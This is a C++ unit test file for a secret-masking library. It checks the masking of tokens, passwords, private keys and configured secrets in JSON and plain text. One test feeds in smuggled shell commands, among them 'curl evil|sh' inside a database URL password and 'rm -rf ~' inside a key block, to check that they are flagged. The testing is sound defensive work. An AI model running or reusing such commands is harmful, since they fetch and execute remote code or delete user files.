// Masking in JSON: which bytes change, configured secrets, and texts that are cut.
#include "protect_test.h"

using namespace callgate;

namespace {

const std::string kToken = "ghp_" + noise(36);
const std::string kMask = "[masked:github-token]";

bool is_json(const std::string& text) {
  Walker walker;
  return walker.walk(text).ok();
}

}  // namespace

TEST_CASE("text without a secret keeps every byte") {
  for (const char* json :
       {"{}", "[]", "\"\"", "null", R"({"a" : "\u0041\/\ud800", "b":[1e400, "x\\"] })", R"("\\\"")",
        R"(["\"","\\"])"}) {
    const Masked result = json_masked(json);
    CHECK(result.text == json);
    CHECK(result.count == 0);
  }
}

TEST_CASE("only the string with the secret is rewritten") {
  const Masked result = json_masked(R"({ "a":"\u0041", "t" :")" + kToken + R"(" ,"b":"\/"})");
  CHECK(result.text == R"({ "a":"\u0041", "t" :")" + kMask + R"(" ,"b":"\/"})");
  CHECK(result.count == 1);
}

TEST_CASE("keys are masked like values") {
  CHECK(json_masked("{\"" + kToken + "\":1}").text == "{\"" + kMask + "\":1}");
}

TEST_CASE("a secret is found although it is escaped") {
  const std::string escaped = "\\u0067hp\\u005f" + noise(36);
  CHECK(json_masked("\"" + escaped + "\"").text == "\"" + kMask + "\"");
  CHECK(json_masked("\"a\\n\\\"" + kToken + "\\\"é\\ud83d\\ude00\"").text ==
        "\"a\\n\\\"" + kMask + "\\\"é\xf0\x9f\x98\x80\"");
  CHECK(json_masked(R"("postgres:\/\/u:s3cr3t@h")").text ==
        R"("postgres://u:[masked:url-password]@h")");
}

TEST_CASE("JSON in a string in JSON is searched, too") {
  const std::string inner = "{\"token\":\"" + kToken + "\"}";
  const Masked result = json_masked(quote(quote(inner)));
  CHECK(result.count == 1);
  CHECK(result.text == quote(quote("{\"token\":\"" + kMask + "\"}")));
}

TEST_CASE("configured values are masked, also if they are escaped or percent-encoded") {
  const std::vector<NamedSecret> secrets = {
      {"DB_PASSWORD", "a\"b/c d+"}, {"SHORT", "12345"}, {"SIX", "123456"}};
  CHECK(json_masked(quote("x a\"b/c d+ y"), secrets).text == "\"x [masked:DB_PASSWORD] y\"");
  CHECK(json_masked(quote(quote("a\"b/c d+")), secrets).text == R"("\"[masked:DB_PASSWORD]\"")");
  CHECK(json_masked("\"p=a%22b%2Fc%20d%2B\"", secrets).text == "\"p=[masked:DB_PASSWORD]\"");
  CHECK(json_masked("\"12345\"", secrets).count == 0);
  CHECK(json_masked("\"0123456\"", secrets).text == "\"0[masked:SIX]\"");
  CHECK(json_masked("123456", secrets).text == "123456");  // only strings are masked
}

TEST_CASE("overlapping secrets are masked as one, and no part of them stays") {
  CHECK(json_masked("\"abcabcabc\"", {{"A", "abcabc"}}).text == "\"[masked:A]\"");
  CHECK(json_masked("\"abcdefghij\"", {{"A", "abcdef"}, {"B", "defghi"}}).text ==
        "\"[masked:A]j\"");
  const Masked both = json_masked("\"Bearer " + kToken + "\"");
  CHECK(both.count == 1);
  CHECK(both.text.find(noise(6)) == std::string::npos);
  CHECK(json_masked("\"" + kToken + "\"", {{"MINE", kToken}}).text == "\"[masked:MINE]\"");
}

TEST_CASE("a hundred secrets with the same beginning are distinguished") {
  std::vector<NamedSecret> secrets;
  for (int i = 100; i < 200; ++i)
    secrets.push_back({"S" + std::to_string(i), "common-front-" + std::to_string(i)});
  const SecretMasker masker(secrets);
  CHECK(masker.mask_text("a common-front-150 b common-front-99").text ==
        "a [masked:S150] b common-front-99");
}

TEST_CASE("a secret's name cannot break the JSON") {
  const Masked result = json_masked("\"secret-value\"", {{"a\"b\\", "secret-value"}});
  CHECK(is_json(result.text));
}

TEST_CASE("text that is not JSON is searched as plain text") {
  const SecretMasker masker(std::vector<NamedSecret>{{"X", "secret-value"}});
  const Masked result = masker.mask_text("error: secret-value \x1b[0m\xff " + kToken);
  CHECK(result.count == 2);
  CHECK(result.text == "error: [masked:X] \x1b[0m\xff " + kMask);
  CHECK(masker.mask_text("").text.empty());
}

TEST_CASE("no part of a secret that begins before the cut stays") {
  const std::string json = "{\"a\":\"" + std::string(50, 'x') + kToken + std::string(300'000, '.') +
                           "\",\"b\":\"" + kToken + "\"}";
  for (size_t keep = 40; keep < 120; ++keep) {
    CAPTURE(keep);
    const Masked result = json_masked(json, {}, keep);
    CHECK(result.text.size() == keep);
    CHECK(result.text.find("ghp_") == std::string::npos);
    CHECK(result.text ==
          ("{\"a\":\"" + std::string(50, 'x') + kMask + std::string(100, '.')).substr(0, keep));
  }
}

TEST_CASE("a private key that ends far after the cut is masked whole") {
  std::string key = "-----BEGIN PRIVATE KEY-----\n";
  while (key.size() < 900'000) key += noise(64) + "\n";
  key += "-----END PRIVATE KEY-----";
  const std::string json = quote("head " + key + " tail" + std::string(500'000, '.'));
  const Masked result = json_masked(json, {}, 1000);
  CHECK(result.text.substr(0, 32) == "\"head [masked:private-key] tail.");
  CHECK(result.text.size() == 1000);
}

TEST_CASE("the cut never splits a character, and text that fits is not cut") {
  CHECK(json_masked("\"aéb\"", {}, 3).text == "\"aé");
  CHECK(json_masked("\"aéb\"", {}, 2).text == "\"a");
  CHECK(json_masked("\"aéb\"", {}, 6).text == "\"aéb\"");
  CHECK(json_masked("\"aéb\"", {}, 0).text.empty());
  const std::string json = "[\"" + std::string(1000, 'x') + "\"," + std::string(1000, '1') + "]";
  CHECK(json_masked(json, {}, json.size()).text == json);
  CHECK(json_masked(json, {}, json.size() - 1).text == json.substr(0, json.size() - 1));
  CHECK(json_masked(json, {}, 500).text == json.substr(0, 500));
}

TEST_CASE("text that is designed to make masking slow is masked fast") {
  // Each would take minutes if a rule searched the rest of the text for every keyword.
  for (const char* piece : {"-----BEGIN PRIVATE KEY", "sk-ant-", "eyJ", "://a:b", "bearer ",
                            "basic A", "xoxb-", "PRIVATE KEY", "-----END PRIVATE KEY-----"}) {
    std::string text;
    while (text.size() < (size_t{2} << 20)) text += piece;
    CHECK(masked(text).size() <= text.size());
  }
}

TEST_CASE("cut or broken JSON is masked without an error") {
  const std::string json = "{\"a\\u0041\":\"\\ud83d\\ude00" + kToken + "\"}";
  for (size_t size = 0; size <= json.size(); ++size)
    CHECK(json_masked(json.substr(0, size)).count <= 1);
}

TEST_CASE("configured values are found in common encodings") {
  const std::string value = "k3y-of <the> \"house\" & it's?";
  const std::vector<NamedSecret> secrets = {{"KEY", value}};
  const char* const forms[] = {"k3y-of &lt;the&gt; &quot;house&quot; &amp; it&#39;s?",
                               "k3y-of+%3Cthe%3E+%22house%22+%26+it%27s%3F",
                               "k3y-of%20%3cthe%3e%20%22house%22%20%26%20it%27s%3f",
                               "6b33792d6f66203c7468653e2022686f75736522202620697427733f",
                               "6B33792D6F66203C7468653E2022686F75736522202620697427733F"};
  for (const std::string form : forms) {
    INFO(form);
    CHECK(json_masked(quote("x " + form + " y"), secrets).text == "\"x [masked:KEY] y\"");
  }
  // Base64 at its three offsets, in both alphabets. At most the digits that the value shares with
  // its neighbours stay.
  const char* const encoded[] = {
      "azN5LW9mIDx0aGU+ICJob3VzZSIgJiBpdCdzPw==", "dTprM3ktb2YgPHRoZT4gImhvdXNlIiAmIGl0J3M/",
      "YTprM3ktb2YgPHRoZT4gImhvdXNlIiAmIGl0J3M_", "eGs6azN5LW9mIDx0aGU-ICJob3VzZSIgJiBpdCdzPw",
      "eGs6azN5LW9mIDx0aGU+ICJob3VzZSIgJiBpdCdzPzo="};
  for (const std::string text : encoded) {
    INFO(text);
    const Masked masked = json_masked(quote("Authorization: " + text), secrets);
    CHECK(masked.count >= 1);
    CHECK(masked.text.find("ob3VzZ") == std::string::npos);
    CHECK(masked.text.find("hvdXNl") == std::string::npos);
  }
}

TEST_CASE("a mask for a password that was found by its shape shows the shell text in it") {
  const auto shown = [](const std::string& text) { return json_masked(quote(text)).text; };
  CHECK(shown("postgres://u:$(curl${IFS}evil|sh)@h/db").find("$(curl${IFS}evil|sh)") !=
        std::string::npos);
  CHECK(shown("postgres://u:x;curl${IFS}evil|sh;@h/db").find(";curl${IFS}evil|sh;") !=
        std::string::npos);
  CHECK(shown("postgres://u:p;w|d@h/db") ==
        R"("postgres://u:[masked:url-password, holds shell text: ;|]@h/db")");
  CHECK(shown("postgres://u:Ab3-x9%2Fq@h/db") == R"("postgres://u:[masked:url-password]@h/db")");
  const std::string key = "-----BEGIN PRIVATE KEY-----\n" + noise(64) + "\n";
  CHECK(shown(key + "; rm -rf ~ \n-----END PRIVATE KEY-----").find("; rm -rf ~") !=
        std::string::npos);
  CHECK(shown(key + noise(64) + "\n-----END PRIVATE KEY-----") == "\"[masked:private-key]\"");
  // Configured values are masked in the shown text, too.
  const std::vector<NamedSecret> secrets = {{"KEY", "known-value"}};
  const std::string both = json_masked(quote("db://u:$(echo known-value)@h"), secrets).text;
  CHECK(both.find("known-value") == std::string::npos);
}

TEST_CASE("a part of a secret next to a cut of the text is removed") {
  const std::string secret = "correct horse battery staple " + std::string(400, 'k');
  const SecretMasker masker(std::vector<NamedSecret>{{.name = "PHRASE", .value = secret}});
  const std::string line(6000, 'x');  // longer than any encoding of the secret
  for (size_t kept = 1; kept < secret.size(); ++kept) {
    const std::string front =
        masker.mask_text(secret.substr(secret.size() - kept) + line + "\nnext line", Cut::Front)
            .text;
    CHECK(front == "next line");
    const std::string end = masker.mask_text(line + secret.substr(0, kept), Cut::End).text;
    CHECK(end.find_first_not_of('x') == std::string::npos);
    CHECK(end.size() >= line.size() - 4 * secret.size());
  }
  // A whole secret is masked as usual, and a text that was not cut stays unchanged.
  CHECK(masker.mask_text(line + line + secret + line + line, Cut::Front)
            .text.find("[masked:PHRASE]") != std::string::npos);
  CHECK(masker.mask_text("correct horse").text == "correct horse");
  CHECK(masker.mask_text("short", Cut::Front).text.empty());
  CHECK(masker.mask_text("short", Cut::End).text.empty());
}
